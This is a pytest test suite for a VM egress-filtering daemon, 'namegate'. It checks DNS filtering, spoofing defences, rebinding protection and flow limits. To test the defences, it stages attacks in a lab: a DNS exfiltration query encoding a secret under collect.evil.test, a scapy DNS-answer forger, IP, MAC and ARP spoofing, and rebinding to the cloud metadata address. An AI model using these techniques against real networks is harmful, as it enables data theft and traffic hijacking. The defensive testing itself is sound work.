"""The fast path end to end (SPEC s4 steps 1-4 and 7), through the real daemon on
net_af_packet in the lab: every blocked case is paired with an allowed control, and
asserted on what the client saw, what the fake internet received, and the counter that
moved."""
import copy
import ipaddress
import json
import os
import subprocess

import pytest

import lab as labmod
import lab_namegate
import lab_services as svc
import ng_counters as nc
from lab_net import wait_until


def _binary():
    binary = os.environ.get("NAMEGATE_BIN")
    if not binary or not os.access(binary, os.X_OK):
        pytest.skip("NAMEGATE_BIN is not set to a built namegate (no DPDK?)")
    return binary


def _policies():
    p = copy.deepcopy(lab_namegate.DEFAULT_POLICIES)
    p["python"]["allow"] += ["*.bulk.test", "rebind-metadata.test", "rebind-vm.test",
                             "rebind-embedded.test"]
    return p


def _vms():
    return labmod.default_vms(2) + [labmod.VM("vm3", "02:00:00:00:00:03", "10.77.0.13",
                                              "fd77::13", "python", mode="audit")]


def start(request, **config):
    lab = labmod.Lab(mode="namegate", vms=_vms(), policies=_policies(),
                     namegate_cmd=[_binary(), "-c", "{config}"], config=config or None)
    request.addfinalizer(lab.teardown)
    return lab.setup()


@pytest.fixture(scope="module")
def ng(request):
    return start(request)


def queried(lab, name):
    return any(n == name for _, n, _ in lab.resolver_queries())


# ---------------------------------------------------------------- DNS (step 2)

def test_allowed_name_resolves_and_connects(ng):
    with nc.Delta(ng) as d:
        r = ng.curl("vm1", "https://pypi.org/")
    assert r.ok, r.stderr
    assert r.json()["server"] == "pypi" and r.json()["client"] == "10.77.0.11"
    assert d[nc.dns("vm1", "allowed")] >= 1
    assert d[nc.egress("vm1", "allowed")] >= 3          # query, SYN, ClientHello at least
    assert nc.read(ng)[nc.vm_key("namegate_vm_bindings", "vm1")] >= 1


def test_denied_name_answered_by_namegate_and_never_forwarded(ng):
    secret = "73656372657420746f6b656e.collect.evil.test"
    with nc.Delta(ng) as d:
        r = ng.dig("vm1", secret, "TXT", edns=True)
    assert r.rcode == "REFUSED" and r.ede == 15
    assert not queried(ng, secret)
    assert d[nc.blocked("vm1", "dns_denied")] == 1 and d[nc.dns("vm1", "blocked")] == 1
    control = ng.dig("vm1", "files.pythonhosted.org")
    assert control.rcode == "NOERROR" and control.addresses == ["203.0.113.11"]
    assert queried(ng, "files.pythonhosted.org")


def test_denied_name_without_edns_has_no_ede(ng):
    r = ng.dig("vm1", "evil.test")
    assert r.rcode == "REFUSED" and r.ede is None


def test_dns_to_another_server_dropped(ng):
    name = "objects.githubusercontent.com"
    with nc.Delta(ng) as d:
        r = ng.dig("vm1", name, server=svc.ROGUE_RESOLVER, timeout=1)
        d.wait({nc.blocked("vm1", "dns_denied"): 1})    # dropped: no answer is coming
    assert r.rcode is None and not queried(ng, name)
    assert d[nc.blocked("vm1", "dns_denied")] == 1
    assert ng.dig("vm1", name).addresses == ["203.0.113.13"] and queried(ng, name)


def test_dns_over_tcp_filtered_message_by_message(ng):
    ok = ng.dig("vm1", "pypi.org", tcp=True)
    assert ok.rcode == "NOERROR" and ok.addresses == ["203.0.113.10"]
    with nc.Delta(ng) as d:
        bad = ng.dig("vm1", "tcp.collect.evil.test", tcp=True, edns=True)
    assert bad.rcode == "REFUSED" and bad.ede == 15
    assert not queried(ng, "tcp.collect.evil.test")
    assert d[nc.blocked("vm1", "dns_denied")] == 1


# The accomplice outside: forged answers to vm1's port 33333 with its query ID, one every
# 20 ms (a flood's pace) from the moment it prints "forging" until its stdin closes.
_FORGER = """
import select, sys
from scapy.all import *
conf.verb = 0
name = sys.argv[1]
a = IP(src=sys.argv[2], dst='10.77.0.11')/UDP(sport=53, dport=33333)/DNS(
    id=0x4242, qr=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata='203.0.113.66'))
s = conf.L3socket(iface='eth0')
s.send(a)
print('forging', flush=True)
while not select.select([sys.stdin], [], [], 0.02)[0]:
    s.send(a)
"""


def test_forged_answer_with_the_vms_query_id_is_dropped(ng):
    """The query leaves with namegate's own ID, so an accomplice outside who knows the VM's
    ID (0x4242) and port cannot get a forged answer in."""
    name = "forge.githubusercontent.com"
    unsolicited = nc.blocked("vm1", "unsolicited")
    # vm1 captures every answer to its port until told to stop; it sends its query when
    # told to, and says when the real resolver's NXDOMAIN has come
    sniffer = ng.scapy_code("vm1", f"""
        import sys
        got = []
        def seen(p):
            got.append(p)
            if p.haslayer(DNS) and p[DNS].rcode == 3:
                print('answered', flush=True)
        s = AsyncSniffer(filter='udp and src port 53 and dst port 33333', iface=VM['iface'],
                         prn=seen, store=False,
                         started_callback=lambda: print('ready', flush=True))
        s.start()
        sys.stdin.readline()
        send(IP(dst=RESOLVER)/UDP(sport=33333, dport=53)/DNS(id=0x4242, rd=1,
             qd=DNSQR(qname={name!r})))
        sys.stdin.read()
        s.stop()
        print(json.dumps([[p[DNS].id, p[DNS].rcode,
            [p[DNS].an[i].rdata for i in range(p[DNS].ancount)]] for p in got]))
    """)
    with ng.background(ng.inet_ns, _FORGER, (name, svc.RESOLVER)) as forger, \
            ng.background("vm1", sniffer) as vm, nc.Delta(ng) as d:
        assert vm.line() == "ready"
        assert forger.line() == "forging"
        d.wait({unsolicited: 1})            # forged answers reach namegate, none pending
        vm.send()                           # the query: forged answers go on meanwhile
        assert vm.line() == "answered"
        # and after it: once namegate has dropped more of them, vm1 has all it would get
        d.wait({unsolicited: nc.read(ng)[unsolicited] - d.before[unsolicited] + 3})
        forger.finish()
        out = vm.finish()
    answers = json.loads(out[-1]) if out else None
    assert answers, vm.stderr()
    assert all(a[0] == 0x4242 and "203.0.113.66" not in a[2] for a in answers)
    assert any(a[1] == 3 for a in answers)            # the real resolver's NXDOMAIN
    assert d[nc.blocked("vm1", "unsolicited")] >= 1


# ---------------------------------------------------------------- identity (step 1)

def test_spoofed_source_address_dropped(ng):
    name = "spoof.githubusercontent.com"
    with nc.Delta(ng) as d:
        ng.scapy("vm1", f"""
            send(IP(src='10.77.0.99', dst=RESOLVER)/UDP(sport=5300, dport=53)/
                 DNS(rd=1, qd=DNSQR(qname={name!r})))
        """)
        d.wait({nc.blocked("vm1", "spoofed"): 1})   # judged: it goes nowhere now
    assert not queried(ng, name)
    assert d[nc.blocked("vm1", "spoofed")] == 1
    out = ng.scapy("vm1", f"""
        r = sr1(IP(dst=RESOLVER)/UDP(sport=5301, dport=53)/DNS(rd=1, qd=DNSQR(qname={name!r})),
                timeout=20)
        print(r[DNS].rcode if r else 'none')
    """)
    assert out.stdout.strip() == "3" and queried(ng, name)


def test_unknown_mac_dropped(ng):
    name = "mac.githubusercontent.com"
    with nc.Delta(ng) as d:
        ng.scapy("vm1", f"""
            sendp(Ether(src='02:00:00:00:00:99', dst=ROUTER_MAC)/IP(src=VM['ipv4'], dst=RESOLVER)/
                  UDP(sport=5302, dport=53)/DNS(rd=1, qd=DNSQR(qname={name!r})), iface=VM['iface'])
        """)
        d.wait({nc.blocked("unknown", "spoofed"): 1})   # judged: it goes nowhere now
    assert not queried(ng, name)
    assert d[nc.blocked("unknown", "spoofed")] == 1


def test_arp_only_with_the_vms_own_address(ng):
    # a request for the router's own address: Linux learns its sender from it (an
    # unsolicited reply it would ignore, so a reply could not show the block worked)
    with nc.Delta(ng) as d:
        ng.scapy("vm1", """
            sendp(Ether(src=VM['mac'], dst='ff:ff:ff:ff:ff:ff')/ARP(op=1, hwsrc=VM['mac'],
                  psrc='10.77.0.12', pdst=ROUTER4), iface=VM['iface'])
        """)
        d.wait({nc.blocked("vm1", "spoofed"): 1})   # dropped: the router never gets it
    assert d[nc.blocked("vm1", "spoofed")] == 1
    neigh = ng.inet_exec(["ip", "neigh", "show", "10.77.0.12"]).stdout
    assert "02:00:00:00:00:01" not in neigh             # vm1 did not steal vm2's address
    with nc.Delta(ng) as d:
        ng.scapy("vm1", """
            sendp(Ether(src=VM['mac'], dst=ROUTER_MAC)/ARP(op=2, hwsrc=VM['mac'],
                  psrc=VM['ipv4'], hwdst=ROUTER_MAC, pdst=ROUTER4), iface=VM['iface'])
        """)
        # the ARP judged (allowed), and nothing more coming (the sync query is a DNS block)
        d.wait({nc.egress("vm1", "allowed"): 1})
        ng.sync("vm1")
    # >= 1: the VM's own kernel may send a frame (ARP, neighbour solicitation) meanwhile
    assert d[nc.blocked("vm1", "spoofed")] == 0 and d[nc.egress("vm1", "allowed")] >= 1


# ---------------------------------------------------------------- learning (step 3)

def test_cname_chain_binds_the_target(ng):
    r = ng.curl("vm1", "https://www.pypi-mirror.test/")
    assert r.ok and r.json()["server"] == "cdn-edge"


def test_ipv6_binding(ng):
    r = ng.curl("vm1", "https://pypi.org/", ip=6)
    assert r.ok and r.json()["client"] == "fd77::11" and r.remote_ip == "2001:db8::10"


def test_rebinding_address_never_bound(ng):
    """The metadata address is never bound, so it is removed from the answer (the VM is
    given no address it cannot connect to); connecting to it anyway is no_binding."""
    with nc.Delta(ng) as d:
        r = ng.dig("vm1", "rebind-metadata.test")
        by_name = ng.curl("vm1", "http://rebind-metadata.test/")
        c = ng.curl("vm1", "http://rebind-metadata.test/",
                    resolve="rebind-metadata.test:80:169.254.169.254")
    assert r.rcode == "NOERROR" and r.addresses == [], r.raw
    assert by_name.outcome == "dns failed", by_name.stderr
    assert c.outcome == "connection refused"
    assert d[nc.blocked("vm1", "rebind")] >= 1 and d[nc.blocked("vm1", "no_binding")] >= 1
    assert ng.curl("vm1", "https://pypi.org/").ok


def test_embedded_ipv4_is_judged_as_ipv4(ng):
    """An AAAA whose address leads to 169.254.169.254 (NAT64 well-known and local-use,
    IPv4-compatible, 6to4, Teredo's inverted client) or to vm2's 10.77.0.12 is removed and
    counted as rebind; a NAT64 address of a served IPv4 address in the same answer stays."""
    with nc.Delta(ng) as d:
        r = ng.dig("vm1", "rebind-embedded.test", "AAAA")
        d.wait({nc.blocked("vm1", "rebind"): len(svc.REBIND_EMBEDDED)})
    assert r.rcode == "NOERROR", r.raw
    kept = sorted(ipaddress.ip_address(a).compressed for a in r.addresses)
    assert kept == [ipaddress.ip_address(svc.NAT64_CONTROL).compressed], r.raw
    assert d[nc.blocked("vm1", "rebind")] == len(svc.REBIND_EMBEDDED)


def test_thousand_resolutions_each_followed_at_once_by_a_connection(ng):
    """The binding is in place before the answer reaches the VM: each of 1,000 names has its
    own address, and each connection starts the moment its answer is read."""
    ng.inet_exec(["ip", "route", "replace", "local", svc.BULK_NET, "dev", "lo"], check=True)
    server = subprocess.Popen(
        ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c",
         "import socket\ns = socket.socket(); s.setsockopt(socket.SOL_SOCKET, "
         "socket.SO_REUSEADDR, 1)\ns.setsockopt(socket.SOL_IP, 19, 1)\n"   # IP_FREEBIND
         "s.bind(('0.0.0.0', 9)); s.listen(1024)\nprint('listening', flush=True)\n"
         "while True:\n    c, _ = s.accept(); c.close()\n"],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    try:
        assert server.stdout.readline().strip() == "listening"
        out = ng.vm_python("vm1", f"""
import socket
ok = 0
for i in range({svc.BULK_NAMES}):
    addr = socket.getaddrinfo(f"n{{i}}.bulk.test", 9, socket.AF_INET,
                              socket.SOCK_STREAM)[0][4]
    s = socket.socket()
    s.settimeout(20)
    try:
        s.connect(addr)
        ok += 1
    except OSError:
        pass
    s.close()
print(ok)
""", timeout=180)
    finally:
        server.kill()
        server.wait()
    assert out.stdout.strip() == str(svc.BULK_NAMES), out.stderr
    assert nc.read(ng)[nc.vm_key("namegate_vm_bindings", "vm1")] >= svc.BULK_NAMES


# ---------------------------------------------------------------- admission (step 4)

def test_unbound_address_gets_a_reset_not_a_timeout(ng):
    with nc.Delta(ng) as d:
        r = ng.curl("vm1", "https://203.0.113.20/", insecure=True)
    assert r.outcome == "connection refused"
    assert not ng.server_events(event="accept", addr="203.0.113.20", client="10.77.0.11")
    assert d[nc.blocked("vm1", "no_binding")] == 1


def test_bindings_are_per_vm(ng):
    assert ng.curl("vm1", "https://pypi.org/").ok
    stolen = ng.curl("vm2", "https://pypi.org/", resolve="pypi.org:443:203.0.113.10")
    assert stolen.outcome == "connection refused"
    own = ng.curl("vm2", "https://github.com/")
    assert own.ok and own.json()["server"] == "github"


def test_port_rules(ng):
    """python allows github.com:22 only: the name resolves, port 22 opens, 443 does not.
    What goes on port 22 is SSH, shown by its identification line (test_positive_evidence:
    bytes that prove no protocol are cut)."""
    assert ng.dig("vm1", "github.com").addresses == ["203.0.113.12"]
    assert ng.curl("vm1", "https://github.com/").outcome == "connection refused"
    # an SSH identification line: what passes unjudged on a port nobody names a host on
    out = ng.vm_python("vm1", """
import socket
s = socket.create_connection(("203.0.113.12", 22), timeout=20)
s.sendall(b"SSH-2.0-agent\\r\\n"); print(s.recv(30))
""")
    assert out.stdout.strip() == repr(b"SSH-2.0-agent\r\n"), out.stdout + out.stderr


def test_address_pattern(ng):
    r = ng.curl("vm1", "https://198.51.100.7/")
    assert r.ok and r.json()["server"] == "literal"
    assert ng.curl("vm1", "http://198.51.100.7/").outcome == "connection refused"
    assert ng.curl("vm2", "https://198.51.100.7/").outcome == "connection refused"


def test_inbound_without_a_flow_dropped(ng):
    # vm1 counts what comes from 203.0.113.20 until told to stop
    sniffer = ng.scapy_code("vm1", """
        import sys
        s = AsyncSniffer(filter='src host 203.0.113.20', iface=VM['iface'],
                         started_callback=lambda: print('ready', flush=True))
        s.start()
        sys.stdin.read()
        print(len(s.stop()))
    """)
    with ng.background("vm1", sniffer) as probe, nc.Delta(ng) as d:
        assert probe.line() == "ready"
        sent = ng.ns_exec(ng.inet_ns, [labmod.PYTHON, "-c",
                                       "from scapy.all import *\nconf.verb = 0\n"
                                       "send(IP(src='203.0.113.20', dst='10.77.0.11')/"
                                       "TCP(sport=443, dport=22, flags='S'), iface='eth0')\n"
                                       "send(IP(src='203.0.113.20', dst='10.77.0.11')/"
                                       "UDP(sport=53, dport=5353)/b'x', iface='eth0')\n"],
                          timeout=30)
        assert sent.returncode == 0, sent.stderr
        # both judged and dropped: what vm1 has seen by now is all it will see
        d.wait({nc.blocked("vm1", "unsolicited"): 2})
        seen = probe.finish()
    assert seen == ["0"], probe.stderr()
    assert d[nc.blocked("vm1", "unsolicited")] == 2


def test_tcp_without_syn_and_without_flow_dropped(ng):
    from test_conntrue import inet_capture      # (test_conntrue imports this module)
    ng.dig("vm1", "pypi.org")
    with inet_capture(ng) as cap, nc.Delta(ng) as d:
        ng.scapy("vm1", """
            send(IP(dst='203.0.113.10')/TCP(sport=40999, dport=443, flags='PA', seq=1,
                 ack=1)/b'GET / HTTP/1.0\\r\\n\\r\\n')
        """)
        d.wait({nc.blocked("vm1", "unsolicited"): 1})
        cap.sync()
    assert not cap.packets(src="10.77.0.11", sport=40999), "the segment reached the internet"
    assert d[nc.blocked("vm1", "unsolicited")] == 1


# ---------------------------------------------------------------- audit (step 9)

def test_audit_vm_passes_and_counts_would_block(ng):
    with nc.Delta(ng) as d:
        r = ng.curl("vm3", "https://evil.test/")
    assert r.ok and r.json()["server"] == "evil"
    assert d[nc.egress("vm3", "would_block")] >= 3
    assert d[nc.blocked("vm3", "dns_denied")] >= 1 and d[nc.blocked("vm3", "no_binding")] == 1


# ---------------------------------------------------------------- flows (step 7)

def test_allowed_flow_outlives_its_binding(request):
    lab = start(request, dns={"min_ttl": 2, "max_ttl": 2})
    bindings = nc.vm_key("namegate_vm_bindings", "vm1")
    holder = lab.background("vm1", """
import http.client, socket, ssl, sys
ctx = ssl.create_default_context(cafile=CA)
addr = socket.getaddrinfo("pypi.org", 443, socket.AF_INET)[0][4][0]
conn = http.client.HTTPSConnection("pypi.org", 443, context=ctx, timeout=20)
conn.sock = ctx.wrap_socket(socket.create_connection((addr, 443), timeout=20),
                            server_hostname="pypi.org")
def get():
    conn.request("GET", "/")
    r = conn.getresponse()
    r.read()
    return r.status
print(get(), flush=True)
sys.stdin.readline()                # the binding (TTL 2) has expired
again = get()                       # same connection: the flow keeps its verdict
try:
    socket.create_connection((addr, 443), timeout=20)        # a cap: refusal is a reset
    fresh = "connected"
except ConnectionRefusedError:
    fresh = "refused"
print(again, fresh, flush=True)
""".replace("CA", repr(lab.ca_path)))
    with holder:
        first = holder.line()
        # the TTL running out is what this test is about: no sleep for it, but a wait
        # until namegate has let the binding go (it does so TTL 2 s after the answer)
        wait_until(lambda: nc.read(lab)[bindings] == 0, what="vm1's binding to expire")
        holder.send()
        out = [first] + holder.line().split()
        holder.finish()
    assert out == ["200", "200", "refused"], holder.stderr()
    assert nc.read(lab)[bindings] == 0


def test_flow_limit_per_vm(request):
    lab = start(request, dataplane={"max_flows_per_vm": 4})
    out = lab.vm_python("vm1", """
import socket
addr = socket.getaddrinfo("pypi.org", 7, socket.AF_INET)[0][4][0]
held, result = [], []
for i in range(5):
    try:
        held.append(socket.create_connection((addr, 7), timeout=20)); result.append("ok")
    except ConnectionRefusedError:
        result.append("refused")
print(" ".join(result))
""", timeout=30)
    assert out.stdout.split() == ["ok", "ok", "ok", "ok", "refused"], out.stderr
    other = lab.curl("vm2", "https://github.com/")
    assert other.ok
    assert nc.read(lab)[nc.blocked("vm1", "flow_limit")] == 1
